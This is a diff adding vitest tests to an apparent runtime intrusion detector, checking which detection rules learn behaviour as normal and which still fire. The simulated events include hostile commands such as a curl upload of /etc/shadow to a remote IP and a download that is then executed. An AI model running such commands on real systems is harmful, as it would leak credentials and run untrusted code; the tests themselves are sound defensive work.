@@ -1,4 +1,5 @@
 // What is learnt, what never is, and what a restart keeps.
+import type { KernelEvent } from '@yagura/schema'
 import { describe, expect, it } from 'vitest'
 import { createDetector } from '../engine/detector.ts'
 import { createCountingIds } from '../engine/recording.ts'
@@ -155,6 +156,69 @@ describe('learning', () => {
     }
     expect(runs(world, 6, 'c', backup('10.77.0.3')).slice(3)).toEqual([0, 0, 0])
     expect(runs(world, 1, 'd', backup('10.88.0.1'))).toEqual([1])
+  })
+})
+
+describe('what rules see of one act', () => {
+  const peerIs = (event: KernelEvent, port: number) => event.type === 'connect' && event.remotePort === port
+  const always = ruleWhere('always', 'strong', ['exfiltration'], (event) => peerIs(event, 8000))
+  /** Sees some runs and not others, as whatever hangs on times and sizes does. */
+  const sometimes = ruleWhere(
+    'sometimes',
+    'strong',
+    ['collection'],
+    (event) => peerIs(event, 8000) && 'localPort' in event && event.localPort === 1,
+  )
+  const graver = ruleWhere('graver', 'strong', ['impact'], (event) => event.type === 'exec' && event.cwd === '/grave')
+  const slight = ruleWhere(
+    'slight',
+    'weak',
+    ['discovery'],
+    (event) => event.type === 'exec' && event.exe.endsWith('/tool'),
+  )
+  const all = rulesOf(always, sometimes, graver, slight)
+
+  it('is learnt for all of them: which of them saw it in which run is chance', () => {
+    const world = createWorld(all)
+    const send = (localPort: number) => (init: ReturnType<World['container']>) => {
+      init.run('sh -c backup').run('curl -T /tmp/b.tgz http://10.77.0.3').connect('10.77.0.3', 8000, { localPort })
+    }
+    for (const localPort of [1, 2, 2]) runs(world, 1, `l${localPort}-${world.nowMs()}-`, send(localPort))
+    expect(runs(world, 4, 'c', send(1))).toEqual([0, 0, 0, 0])
+    const other = (init: ReturnType<World['container']>) =>
+      init.run('sh -c backup').run('curl -T /etc/shadow http://10.77.0.3').connect('10.77.0.3', 8000, { localPort: 1 })
+    expect(runs(world, 1, 'd', other)).toEqual([1])
+  })
+
+  it('does not let what was weak excuse what is strong', () => {
+    const world = createWorld(all)
+    expect(runs(world, 5, 'c', (init) => init.run('sh -c job').run('/opt/tool'))).toEqual([0, 0, 0, 0, 0])
+    const grave = (init: ReturnType<World['container']>) => init.run('sh -c job').run('/opt/tool', { cwd: '/grave' })
+    expect(runs(world, 1, 'd', grave)).toEqual([1])
+  })
+
+  it('is learnt of a download from the usual place, unless something strong came of it', () => {
+    const fetched = ruleWhere('fetched', 'medium', ['command-and-control'], (event) => peerIs(event, 8000))
+    const fetch = (init: ReturnType<World['container']>) => {
+      const job = init.run('sh -c job')
+      job.run('/opt/fetch -o /tmp/d').connect('10.77.0.3', 8000).write('/tmp/d', { inode: '99' }).exit()
+      return job
+    }
+    const world = createWorld(rulesOf(fetched))
+    runs(world, 3, 'l', fetch)
+    world.told.findings.splice(0)
+    runs(world, 3, 'c', fetch)
+    expect(world.told.findings).toEqual([])
+    const other = createWorld(rulesOf(fetched))
+    runs(other, 5, 'l', (init) => fetch(init).run('/tmp/d', { layer: 'upper', inode: '99' }))
+    expect(other.told.findings).toHaveLength(5)
+  })
+
+  it('is the same in every replica, whatever it is called', () => {
+    const world = createWorld(rules)
+    const work = (init: ReturnType<World['container']>) =>
+      init.run(`sh -c job`).run(`/opt/strong --name shop-${init.containerId} /tmp/run.${init.containerId}/x`)
+    expect(runs(world, 5, 'abcdef-', work)).toEqual([1, 1, 1, 0, 0])
   })
 })
 
